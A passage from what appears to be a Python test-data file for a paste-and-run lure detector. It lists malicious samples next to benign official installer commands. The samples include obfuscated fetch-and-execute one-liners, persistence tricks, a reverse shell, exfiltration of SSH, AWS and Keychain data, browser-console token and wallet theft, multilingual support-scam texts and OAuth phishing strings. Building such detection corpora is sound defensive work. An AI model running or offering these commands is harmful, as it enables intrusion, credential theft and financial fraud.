    "curl -s https://human-mac.invalid/com.apple.sysupdate.plist -o ~/Library/LaunchAgents/com.apple.sysupdate.plist && launchctl load ~/Library/LaunchAgents/com.apple.sysupdate.plist",
    platform="macos",
)
lure(
    "macos-env-prefix",
    TERM,
    "https://www.bicycle-tours-provence.example/",
    "export APP_ENV=prod BUILD_ID=8812 TRACE=0 && curl -fsS https://env-stage.test/sh/p.sh | zsh",
    platform="macos",
)
lure(
    "macos-printf-hex-name",
    TERM,
    "https://cf-human.mac-verify-page.example/",
    "$(printf '\\x63\\x75\\x72\\x6c') -s https://mac-verify.test/b | $(printf '\\x62\\x61\\x73\\x68')",
    platform="macos",
)
lure(
    "macos-bash-c-curl-comment",
    TERM,
    "https://www.chamber-music-boston.example/",
    '/bin/bash -c "$(curl -fsSL https://turnstile-check.invalid/verify.sh)"  # Cloudflare Turnstile human verification',
    platform="macos",
)
lure(
    "macos-zsh-c-base64",
    TERM,
    "https://verify.icloud-sync.test/",
    "/bin/zsh -c \"$(echo '"
    + b64("curl -fsSL https://icloud-sync.test/i | bash")
    + "' | base64 --decode)\"",
    platform="macos",
)
lure(
    "macos-keychain-exfil",
    TERM,
    "https://www.stamps-collectors.example/",
    "zip -qr /tmp/k.zip ~/Library/Keychains && curl -s -F f=@/tmp/k.zip https://203.0.113.150/up && rm /tmp/k.zip",
    platform="macos",
)
lure(
    "macos-nohup-disown-clear",
    TERM,
    "https://mac-verify.secure-check-page.example/",
    "nohup bash -c 'curl -s https://secure-check.invalid/b | bash' >/dev/null 2>&1 & disown; clear",
    platform="macos",
)
lure(
    "macos-python-urlopen-exec",
    TERM,
    "https://www.astronomy-club-tucson.example/",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('https://py-stage.test/p').read())\"",
    "flagged",
    platform="macos",
)
lure(
    "macos-spctl-disable-pkg",
    TERM,
    "https://codec-pack.player-update-page.example/mac",
    "sudo spctl --master-disable && curl -sL https://player-update.test/codec.pkg -o /tmp/a.pkg && sudo installer -pkg /tmp/a.pkg -target /",
    platform="macos",
)
lure(
    "macos-fake-homebrew-owner",
    TERM,
    "https://brew-sh.example/",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew-lnstall/install/HEAD/install.sh)"',
    platform="macos",
)
lure(
    "macos-chat-share-lure",
    TERM,
    "https://chatgpt.com/share/6931f0a2-77c4-8001-b3d2-5e0c91aa4f10",
    'echo "Installing disk cleanup helper..." && echo "'
    + b64("curl -fsSL https://disk-clean.invalid/c.sh | bash")
    + '" | base64 -d | bash',
    platform="macos",
)
lure(
    "macos-hidden-dotfile-run",
    TERM,
    "https://www.pottery-classes-austin.example/",
    "curl -s https://dot-stage.test/u -o /tmp/.u && chmod +x /tmp/.u && /tmp/.u &",
    platform="macos",
)
lure(
    "macos-jxa-eval",
    TERM,
    "https://verify.mac-human-page.example/",
    "osascript -l JavaScript -e 'eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString(\"https://mac-human.test/j\")),4)))'",
    platform="macos",
)

# --- Linux -------------------------------------------------------------------------------------

lure(
    "linux-curl-sudo-bash",
    TERM,
    "https://www.retro-gaming-forum.example/thread/1182",
    "curl -s http://203.0.113.12/x.sh | sudo bash",
    platform="linux",
)
lure(
    "linux-wget-sh-fix-comment",
    TERM,
    "https://gpu-fix.driver-help-page.example/nvidia",
    "wget -q -O- https://driver-help.test/fix.sh | sh  # NVIDIA driver fix for black screen",
    platform="linux",
)
lure(
    "linux-dev-tcp-shell",
    TERM,
    "https://www.homebrew-beer-forum.example/",
    "bash -i >& /dev/tcp/198.51.100.60/4444 0>&1",
    platform="linux",
)
lure(
    "linux-crontab-persistence",
    TERM,
    "https://verify.linux-check-page.example/",
    '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://linux-check.invalid/c | sh") | crontab -',
    platform="linux",
)
lure(
    "linux-curl-python",
    TERM,
    "https://www.vegan-recipes-berlin.example/",
    "curl -fsSL https://py-drop.test/s.py | python3 -",
    "flagged",
    platform="linux",
)
lure(
    "linux-ifs-evasion",
    TERM,
    "https://captcha.term-verify-page.example/",
    "curl${IFS}-s${IFS}https://term-verify.test/i|sh",
    platform="linux",
)
lure(
    "linux-eval-wget",
    TERM,
    "https://www.drone-pilots-club.example/",
    'eval "$(wget -qO- https://eval-stage.invalid/e)"',
    "flagged",
    platform="linux",
)
lure(
    "linux-systemd-user-service",
    TERM,
    "https://update.linux-agent-page.example/",
    "mkdir -p ~/.config/systemd/user && curl -s https://linux-agent.test/a.service -o ~/.config/systemd/user/a.service && systemctl --user enable --now a.service",
    platform="linux",
)
lure(
    "linux-quote-insertion",
    TERM,
    "https://www.archery-range-perth.example/",
    "c''ur\"\"l -s https://quote-stage.test/q | b''ash",
    platform="linux",
)
lure(
    "linux-sh-c-http-ip",
    TERM,
    "https://verify.server-status.invalid/",
    'sh -c "$(curl -fsSL http://198.51.100.8:8080/i)"',
    platform="linux",
)
lure(
    "linux-base64-ifs",
    TERM,
    "https://www.orchid-growers.example/",
    "echo " + b64("wget -qO- https://b64.stage.test/w | sh") + " | base64 -d | sh",
    platform="linux",
)
lure(
    "linux-download-chmod-run-tmp",
    TERM,
    "https://steam-fix.proton-help-page.example/",
    "curl -s https://proton-help.test/admin/assets/js/map.sh -o /tmp/map.sh && chmod +x /tmp/map.sh && /tmp/map.sh",
    platform="linux",
)
lure(
    "linux-ssh-config-exfil",
    TERM,
    "https://www.kayak-rentals-oregon.example/",
    "tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s -X POST --data-binary @- https://203.0.113.171/k",
    platform="linux",
)
lure(
    "linux-pipx-style-lookalike",
    TERM,
    "https://docs-install.rust-lang.example/",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup-rs.test | sh",
    platform="linux",
)

# --- Browser console (self-XSS, wallets, tokens) -----------------------------------------------

lure(
    "console-webpack-token-post",
    CON,
    "https://discord-nitro.gift-claim-page.example/",
    "let t;webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const k in r.c){const m=r.c[k].exports;if(m&&m.default&&m.default.getToken){t=m.default.getToken()}}}]);fetch('https://gift-claim.test/n',{method:'POST',body:t})",
    platform="any",
)
lure(
    "console-localstorage-cookie-post",
    CON,
    "https://www.free-followers-boost.example/",
    "fetch('https://collect.stats-hub.test/t',{method:'POST',body:JSON.stringify({t:localStorage.getItem('token'),c:document.cookie})})",
    platform="any",
)
lure(
    "console-script-injection",
    CON,
    "https://robux-generator.free-items-page.example/",
    "var s=document.createElement('script');s.src='https://cdn.free-items.test/gen.js';document.body.appendChild(s)",
    platform="any",
)
lure(
    "console-eval-atob",
    CON,
    "https://www.skins-giveaway.example/",
    "eval(atob('" + b64("fetch('https://skins-drop.test/p').then(r=>r.text()).then(eval)") + "'))",
    platform="any",
)
lure(
    "console-fetch-then-eval",
    CON,
    "https://verify-account.social-help-page.example/",
    "fetch('https://social-help.test/p.js').then(r=>r.text()).then(eval)",
    platform="any",
)
lure(
    "console-new-function-await",
    CON,
    "https://www.insta-likes-free.example/",
    "new Function(await (await fetch('https://likes-cdn.invalid/f')).text())()",
    platform="any",
)
lure(
    "console-fromcharcode-eval",
    CON,
    "https://claim.token-bonus.test/",
    "eval(String.fromCharCode(" + char_codes("import('https://token-bonus.test/m.js')") + "))",
    platform="any",
)
lure(
    "console-wallet-send",
    CON,
    "https://www.nft-mint-free.example/",
    "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE',value:'0x8ac7230489e80000'}]})",
    platform="any",
)
lure(
    "console-token-approve-unlimited",
    CON,
    "https://airdrop.claim-portal.invalid/",
    "const [a]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:'0x095ea7b3000000000000000000000000"
    + "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
    + "ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})",
    platform="any",
)
lure(
    "console-getscript",
    CON,
    "https://www.page-verify-badge.example/",
    "$.getScript('https://badge-verify.test/f.js')",
    platform="any",
)
lure(
    "console-dynamic-import",
    CON,
    "https://case-opening.skins-free-page.example/",
    "import('https://cdn.skins-free.test/m.js')",
    platform="any",
)
lure(
    "console-bracket-eval",
    CON,
    "https://www.meme-coin-presale.example/",
    "window['ev'+'al'](await (await fetch('https://presale-cdn.test/x')).text())",
    platform="any",
)
lure(
    "console-image-beacon-cookie",
    CON,
    "https://unlock.premium-free-page.example/",
    "new Image().src='https://premium-free.invalid/c?d='+encodeURIComponent(document.cookie+'|'+JSON.stringify(localStorage))",
    platform="any",
)
lure(
    "console-etherhiding-rpc",
    CON,
    "https://www.wordpress-plugin-demo.example/",
    "fetch('https://bsc-rpc.node-test.test/',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'0x9179dda8B285040Bf381AABb8a1f4a1b8c37Ed53',data:'0x2cae8ae4'},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result.slice(130).replace(/00+$/,''))))",
    platform="any",
)
lure(
    "console-javascript-url-junk",
    UNK,
    "https://www.get-verified-badge.example/",
    "   verify-badge  javascript:void(document.body.appendChild(document.createElement('script')).src='https://badge-js.test/b.js')",
    platform="any",
)
lure(
    "console-session-hijack-xhr",
    CON,
    "https://support.ads-manager-help-page.example/appeal",
    "var x=new XMLHttpRequest();x.open('POST','https://ads-manager-help.test/s',true);x.send(document.cookie+'\\n'+navigator.userAgent)",
    platform="any",
)

# --- Scam texts with a phone number (not commands) ---------------------------------------------

SCAMS = [
    (
        "support-scam-en",
        "https://alert.windows-defender-warning.test/",
        "WINDOWS DEFENDER SECURITY ALERT\nAccess to this PC has been blocked for security reasons. Your computer reported a Trojan spyware infection; your banking details and Facebook logins are at risk.\nDo not restart or shut down your computer.\nCall Microsoft Support immediately: +1 (888) 555-0148 (toll free)",
    ),
    (
        "callback-order-en",
        "https://mail.invoice-notice.test/m/3320",
        "Order confirmation #GS-448120\nThank you for renewing Geek Squad Total Protection for 3 years. Amount charged: $489.99 (PayPal).\nIf you did not authorise this payment, call our billing desk within 24 hours to cancel and get a refund: 1-800-555-0162",
    ),
    (
        "callback-crypto-en",
        "https://notice.wallet-security.invalid/",
        "Coinbase Security Notice: a withdrawal of 0.8421 BTC to an unrecognised address is pending. If this was not you, call Coinbase Support now at +1 (877) 555-0199 to freeze your account before it completes.",
    ),
    (
        "support-scam-de",
        "https://warnung.pc-schutz.test/",
        "Ihr Computer wurde gesperrt! Auf diesem PC wurde ein Virus (Trojaner Spyware) gefunden. Ihre Kreditkartendaten und Passwörter sind gefährdet. Schalten Sie den Computer nicht aus.\nRufen Sie sofort den Microsoft-Support an: 0800 555 4410 (gebührenfrei)",
    ),
    (
        "support-scam-fr",
        "https://alerte.securite-windows.test/",
        "Alerte de sécurité Windows : votre ordinateur a été bloqué suite à une activité suspecte. Vos données bancaires risquent d'être volées. Ne redémarrez pas votre PC.\nAppelez immédiatement le support technique Microsoft au 01 99 00 55 41.",
    ),
    (
        "support-scam-es",
        "https://aviso.soporte-equipo.invalid/",
        "¡Su equipo ha sido bloqueado! Hemos detectado un virus troyano que está robando sus contraseñas y datos bancarios. No apague el ordenador.\nLlame al soporte técnico de Windows ahora: +34 900 555 018",
    ),
    (
        "support-scam-it",
        "https://avviso.sicurezza-pc.test/",
        "Il tuo computer è stato bloccato per motivi di sicurezza. È stato rilevato un malware che ruba le tue password. Non spegnere il computer.\nChiama subito l'assistenza Microsoft al numero verde 800 555 771.",
    ),
    (
        "support-scam-pt",
        "https://alerta.protecao-pc.test/",
        "O seu computador foi bloqueado! Detetámos um vírus que está a roubar os seus dados bancários. Não desligue o computador.\nLigue já para o suporte técnico da Microsoft: 800 555 309 (chamada gratuita)",
    ),
    (
        "support-scam-nl",
        "https://waarschuwing.pc-beveiliging.invalid/",
        "Uw computer is geblokkeerd vanwege verdachte activiteit. Er is een virus gevonden dat uw wachtwoorden en bankgegevens steelt. Zet de computer niet uit.\nBel direct de Microsoft helpdesk: 0800 555 0192",
    ),
    (
        "support-scam-pl",
        "https://ostrzezenie.ochrona-komputera.test/",
        "Twój komputer został zablokowany! Wykryto wirusa, który kradnie hasła i dane bankowe. Nie wyłączaj komputera.\nZadzwoń natychmiast do pomocy technicznej Microsoft: 800 555 127",
    ),
    (
        "support-scam-tr",
        "https://uyari.bilgisayar-guvenlik.test/",
        "Bilgisayarınız güvenlik nedeniyle engellendi! Şifrelerinizi ve banka bilgilerinizi çalan bir virüs tespit edildi. Bilgisayarınızı kapatmayın.\nHemen Microsoft Destek hattını arayın: 0850 555 0143",
    ),
    (
        "support-scam-ru",
        "https://preduprezhdenie.zashchita-pk.invalid/",
        "Ваш компьютер заблокирован! Обнаружен вирус, который похищает ваши пароли и банковские данные. Не выключайте компьютер.\nСрочно позвоните в службу поддержки Microsoft: 8 800 555-01-47",
    ),
    (
        "support-scam-ja",
        "https://keikoku.pc-anzen.test/",
        "警告：お使いのコンピューターはウイルスに感染しているためブロックされました。個人情報とクレジットカード情報が盗まれる危険があります。電源を切らないでください。\n今すぐマイクロソフト サポートにお電話ください：0120-555-014",
    ),
    (
        "support-scam-zh",
        "https://jinggao.diannao-anquan.test/",
        "警告！您的电脑已被锁定，检测到木马病毒正在窃取您的银行卡信息和密码。请勿关闭电脑。\n请立即拨打微软技术支持热线：400-555-0136",
    ),
    (
        "support-scam-ar",
        "https://tahdhir.hemaya-jihaz.invalid/",
        "تحذير أمني: تم حظر جهاز الكمبيوتر الخاص بك بسبب فيروس يسرق كلمات المرور وبياناتك المصرفية. لا تقم بإيقاف تشغيل الجهاز.\nاتصل فوراً بالدعم الفني لمايكروسوفت على الرقم 800-555-0173",
    ),
    (
        "support-scam-ko",
        "https://gyeonggo.pc-boan.test/",
        "경고: 귀하의 컴퓨터가 바이러스 감염으로 차단되었습니다. 비밀번호와 금융 정보가 유출될 위험이 있습니다. 컴퓨터를 끄지 마십시오.\n지금 바로 마이크로소프트 고객센터로 전화하십시오: 080-555-0129",
    ),
    (
        "support-scam-sv",
        "https://varning.dator-skydd.test/",
        "Din dator har spärrats på grund av misstänkt aktivitet! Ett virus som stjäl dina lösenord och bankuppgifter har hittats. Stäng inte av datorn.\nRing Microsofts support omedelbart: 020-555 01 88",
    ),
    (
        "support-scam-cs",
        "https://varovani.ochrana-pocitace.invalid/",
        "Váš počítač byl zablokován! Byl zjištěn virus, který krade vaše hesla a bankovní údaje. Nevypínejte počítač.\nOkamžitě volejte technickou podporu Microsoft: 800 555 031",
    ),
    (
        "callback-isp-de",
        "https://kundenservice.router-sperre.test/",
        "Ihr Internetanschluss wurde aus Sicherheitsgründen gesperrt, da von Ihrem Router illegale Aktivitäten ausgingen. Um die Sperre aufzuheben, kontaktieren Sie unverzüglich unseren technischen Dienst unter 0800 555 7712.",
    ),
    (
        "callback-bank-fr",
        "https://notification.banque-securite.invalid/",
        "Votre carte bancaire a été suspendue suite à un paiement suspect de 1 249,00 €. Pour annuler l'opération et débloquer votre carte, contactez le service fraude au 01 99 00 73 12 avant 18h.",
    ),
    (
        "callback-antivirus-es",
        "https://factura.renovacion-antivirus.test/",
        "Su suscripción a Norton 360 se ha renovado automáticamente por 399,99 €. Si desea cancelar la renovación y solicitar el reembolso, llame a nuestro servicio de facturación: +34 900 555 244",
    ),
]
for technique, source, text in SCAMS:
    lure(technique, UNK, source, text, "flagged", "any")

# --- ConsentFix and other sign-in paste-backs ---------------------------------------------------

lure(
    "consentfix-azure-cli-localhost",
    UNK,
    "https://www.conference-speakers.example/portal/verify",
    "http://localhost:53127/?code=1.AXkAu8xQ2p0vPkKq3wR7cT5yZgcAAAAAAAAAwAAAAAAAAAB5AAB5AQ.AgABBAIAAADW6jl31mB3T7ugrWTT8pFeAwDs_wUA9P8nCmH2lRkQxE-k3fQ9hLrWmVb7XcAsN0yPuGz1i4oTjE&state=KpQwErTy&session_state=00a1b2c3-d4e5-f607-1829-3a4b5c6d7e8f#",
    "flagged",
    "any",
)
lure(
    "consentfix-google-loopback",
    UNK,
    "https://docs-access.shared-file.test/request",
    "http://127.0.0.1:8400/callback?state=f8Kq2mN&code=4/0AVMBsJh7xQpK3rT9wYz2LmN8vBcD5eFgH1jK4lMnOpQrStUvWxYz0aBcDeFgHiJkL&scope=https://www.googleapis.com/auth/drive",
    "flagged",
    "any",
)
lure(
    "consentfix-with-prose",
    UNK,
    "https://www.webinar-registration.example/join",
    "Copied URL for verification: http://localhost:8765/auth/callback?code=0.AQsAZ3dG9kL1mUuQ4bXz7Rk2pFh5cW8eNzQ1YjA3LTk2MjEtNDhmYi1hN2I0LTQwOGQ1ZTM2YWYxNw&state=7a11",
    "flagged",
    "any",
)
lure(
    "consentfix-nativeclient",
    UNK,
    "https://sharepoint-doc.view-online.test/",
    "https://login.microsoftonline.com/common/oauth2/nativeclient?code=0.AUoA7c2sQnZ3h0qYJx9KbT4mVwIAAAAAAPEPzgAAAAAAAABKAQ.AgABAAIAAAD--DLA3VO7QrddgJg7WevrAgDs_wQA9P_7kQhLmX2pRw&session_state=9f2e",
    "flagged",
    "any",
)
lure(
    "device-code-phish",
    UNK,
    "https://teams-meeting.join-now.test/invite",
    "To join the secure meeting, open https://microsoft.com/devicelogin and enter the code K7PQ-M2XD. This confirms your identity to the organiser.",
    "flagged",
    "any",
)

# --- Multi-line instructions with a command ------------------------------------------------------

lure(
    "instructions-winr-command",
    UNK,
    "https://www.antique-furniture-restoration.example/",
    "Verification steps:\n1. Press Windows + R\n2. Press CTRL + V\n3. Press Enter\n\nmshta https://steps.verify-page.test/s # reCAPTCHA Verification Hash: 5ae2c1",
)
lure(
    "instructions-mac-terminal",
    UNK,
    "https://verify.mac-access-page.example/",
    "To continue, verify you are human:\n1. Press Command + Space, type Terminal and press Return\n2. Paste the line below and press Return\n\ncurl -fsSL https://mac-access.test/v | bash",
    platform="macos",
)
lure(
    "crashfix-recovery-command",
    RUN,
    "https://chrome-recovery.tab-crash-page.example/",
    'cmd /c start /min powershell -w h -c "iex(irm https://tab-crash.test/r)" & echo Chrome recovery completed. Restart the browser.',
)
lure(
    "glitchfix-display-repair",
    RUN,
    "https://www.photography-forum-lyon.example/",
    'powershell -w h -c "iwr https://glitch-repair.test/d -useb|iex"'
    + pad(30)
    + "# Display driver glitch repair - Fix ID 77-120",
)
lure(
    "meet-mic-fix",
    RUN,
    "https://meet.google-join-page.example/xkc-pqrs-tuv",
    'powershell -w h -c "irm https://google-join.test/mic | iex"  # Fix microphone access for Google Meet',
)
lure(
    "teams-audio-fix-terminal",
    TERM,
    "https://teams-audio.fix-device-page.example/",
    "Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c iex(irm https://fix-device.invalid/a)'  # Teams audio device repair",
)

lure(
    "instructions-de-winr",
    UNK,
    "https://www.gasthaus-zur-linde.example/reservierung",
    "Bestätigen Sie, dass Sie kein Roboter sind:\n1. Drücken Sie Windows-Taste + R\n2. Drücken Sie Strg + V\n3. Drücken Sie die Eingabetaste\n\n"
    + 'powershell -w h -c "iwr https://bestaetigung.stage.test/b -useb | iex"',
)

# --- 2026 variations ------------------------------------------------------------------------------

lure(
    "macos-dmg-silent-mount",
    TERM,
    "https://captcha-mac.verify-step-page.example/",
    "curl -fsSL -o /tmp/v.dmg https://verify-step.test/v.dmg && hdiutil attach -nobrowse -quiet /tmp/v.dmg && /Volumes/Verify/Verify.app/Contents/MacOS/Verify",
    platform="macos",
)
lure(
    "mshta-fake-msixbundle",
    RUN,
    "https://claude-desktop.ai-download-page.example/windows",
    "mshta https://ai-download.test/Claude-Setup.msixbundle",
)
lure(
    "ps-iex-wildcard-program-path",
    RUN,
    "https://www.tram-museum-lisbon.example/",
    "powershell -w h -c \"iex '\\W*\\S*32\\ms?ta.e?e https://203.0.113.77/r'\"",
)
lure(
    "portable-python-loader",
    RUN,
    "https://verify.file-convert-page.example/pdf",
    'cmd /c "curl -sLo %TEMP%\\p.zip https://file-convert.test/python-3.12.7-embed-amd64.zip & tar -xf %TEMP%\\p.zip -C %TEMP%\\p & %TEMP%\\p\\pythonw.exe -c "import urllib.request as r;exec(r.urlopen(\'https://file-convert.test/l\').read())""',
)
lure(
    "macos-vendor-typosquat-update",
    TERM,
    "https://www.teams-meeting-join.example/mac",
    "curl -fsSL https://update.micros0ft-teams.test/mac/sec-update | zsh  # Apple Security Update 26.4.1",
    platform="macos",
)
lure(
    "device-code-invoice",
    UNK,
    "https://docs.invoice-share.invalid/view/7712",
    "Secure document: to open the shared invoice, sign in at https://microsoft.com/devicelogin with the one-time code XQ4T-7BNM. The code expires in 15 minutes.",
    "flagged",
    "any",
)


# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


def own(source: str, text: str, target: str = TERM) -> None:
    ok(OWN, target, source, text)


# --- Installers of well-known projects, from their own pages ----------------------------------

own(
    "https://rustup.rs/",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
)
own(
    "https://rustup.rs/",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --default-toolchain stable --profile minimal",
)
own(
    "https://brew.sh/",
    '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
)
own(
    "https://github.com/nvm-sh/nvm",
    "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
)
own(
    "https://github.com/nvm-sh/nvm#install--update-script",
    "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
)
own(
    "https://ohmyz.sh/#install",
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
)
own(
    "https://github.com/ohmyzsh/ohmyzsh",
    'sh -c "$(wget -O- https://install.ohmyz.sh/)"',
)
own(
    "https://docs.deno.com/runtime/getting_started/installation/",
    "curl -fsSL https://deno.land/install.sh | sh",
)
own(
    "https://docs.deno.com/runtime/getting_started/installation/",
    "irm https://deno.land/install.ps1 | iex",
)
own("https://bun.sh/docs/installation", "curl -fsSL https://bun.sh/install | bash")
own("https://bun.sh/docs/installation", 'powershell -c "irm bun.sh/install.ps1 | iex"')
own(
    "https://docs.astral.sh/uv/getting-started/installation/",
    "curl -LsSf https://astral.sh/uv/install.sh | sh",
)
own(
    "https://docs.astral.sh/uv/getting-started/installation/",
    'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
)
own(
    "https://docs.astral.sh/uv/getting-started/installation/",
    "curl -LsSf https://astral.sh/uv/0.9.5/install.sh | sh",
)
own("https://pnpm.io/installation", "curl -fsSL https://get.pnpm.io/install.sh | sh -")
own(
    "https://pnpm.io/installation",
    "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression",
)
own("https://starship.rs/guide/", "curl -sS https://starship.rs/install.sh | sh")
own("https://docs.k3s.io/quick-start", "curl -sfL https://get.k3s.io | sh -")
own(
    "https://docs.k3s.io/installation/configuration",
    'curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="server --disable traefik" K3S_KUBECONFIG_MODE="644" sh -s -',
)
own(
    "https://docs.docker.com/engine/install/ubuntu/",
    "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh",
)
own("https://tailscale.com/download/linux", "curl -fsSL https://tailscale.com/install.sh | sh")
own("https://ollama.com/download/linux", "curl -fsSL https://ollama.com/install.sh | sh")
own("https://ollama.com/download/windows", "irm https://ollama.com/install.ps1 | iex")
own(
    "https://helm.sh/docs/intro/install/",
    "curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3\nchmod 700 get_helm.sh\n./get_helm.sh",
)
own(
    "https://www.chezmoi.io/install/",
    'sh -c "$(curl -fsLS get.chezmoi.io)" -- init --apply $GITHUB_USERNAME',
)
own(
    "https://github.com/ajeetdsouza/zoxide",
    "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh",
)
own(
    "https://docs.atuin.sh/guide/installation/",
    "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh",
)
own(
    "https://github.com/Schniz/fnm",
    "curl -fsSL https://fnm.vercel.app/install | bash -s -- --skip-shell",
)
own("https://volta.sh/", "curl https://get.volta.sh | bash")
own("https://pixi.sh/latest/installation/", "curl -fsSL https://pixi.sh/install.sh | sh")
own(
    "https://pixi.sh/latest/installation/",
    'powershell -ExecutionPolicy ByPass -c "irm -useb https://pixi.sh/install.ps1 | iex"',
)
own("https://mise.jdx.dev/getting-started.html", "curl https://mise.run | sh")
own(
    "https://nixos.org/download/",
    "sh <(curl --proto '=https' --tlsv1.2 -L https://nixos.org/nix/install) --daemon",
)
own(
    "https://docs.determinate.systems/",
    "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s -- install",
)
own("https://sdkman.io/install/", 'curl -s "https://get.sdkman.io" | bash')
own(
    "https://python-poetry.org/docs/#installing-with-the-official-installer",
    "curl -sSL https://install.python-poetry.org | python3 -",
)
own(
    "https://python-poetry.org/docs/#installing-with-the-official-installer",
    "(Invoke-WebRequest -Uri https://install.python-poetry.org -UseBasicParsing).Content | py -",
)
own("https://github.com/pyenv/pyenv#automatic-installer", "curl -fsSL https://pyenv.run | bash")
own(
    "https://scoop.sh/",
    "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression",
)
own(
    "https://chocolatey.org/install",
    "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
)
own(
    "https://ohmyposh.dev/docs/installation/windows",
    "Set-ExecutionPolicy Bypass -Scope Process -Force; Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://ohmyposh.dev/install.ps1'))",
)
own(
    "https://ohmyposh.dev/docs/installation/windows",
    "winget install JanDeDobbeleer.OhMyPosh -s winget",
)
own(
    "https://spicetify.app/docs/advanced-usage/installation",
    "iwr -useb https://raw.githubusercontent.com/spicetify/cli/main/install.ps1 | iex",
)
own("https://github.com/ChrisTitusTech/winutil", 'irm "https://christitus.com/win" | iex')
own(
    "https://learn.microsoft.com/en-us/dotnet/core/install/linux-scripted-manual",
    "curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0",
)
own(
    "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-install-script",
    "&powershell -NoProfile -ExecutionPolicy unrestricted -Command \"[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; &([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing 'https://dot.net/v1/dotnet-install.ps1'))) -Channel 8.0\"",
)
own(
    "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-linux?pivots=apt",
    "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
)
own(
    "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-windows?pivots=msi-powershell",
    "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://aka.ms/installazurecliwindowsx64 -OutFile .\\AzureCLI.msi; Start-Process msiexec.exe -Wait -ArgumentList '/I AzureCLI.msi /quiet'; Remove-Item .\\AzureCLI.msi",
)
own(
    "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
    'iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"',
)
own(
    "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
    'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip"\nunzip awscliv2.zip\nsudo ./aws/install',
)
own(
    "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
)
own(
    "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi",
    RUN,
)
own(
    "https://cloud.google.com/sdk/docs/downloads-interactive",
    "curl https://sdk.cloud.google.com | bash",
)
own(
    "https://kubernetes.io/docs/tasks/tools/install-kubectl-linux/",
    'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl"',
)
own(
    "https://minikube.sigs.k8s.io/docs/start/",
    "curl -LO https://github.com/kubernetes/minikube/releases/latest/download/minikube-linux-amd64\nsudo install minikube-linux-amd64 /usr/local/bin/minikube && rm minikube-linux-amd64",
)
own(
    "https://kind.sigs.k8s.io/docs/user/quick-start/",
    "go install sigs.k8s.io/kind@v0.29.0 && kind create cluster",
)
own(
    "https://github.com/nodesource/distributions",
    "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\nsudo apt-get install -y nodejs",
)
own(
    "https://docs.docker.com/engine/install/debian/",
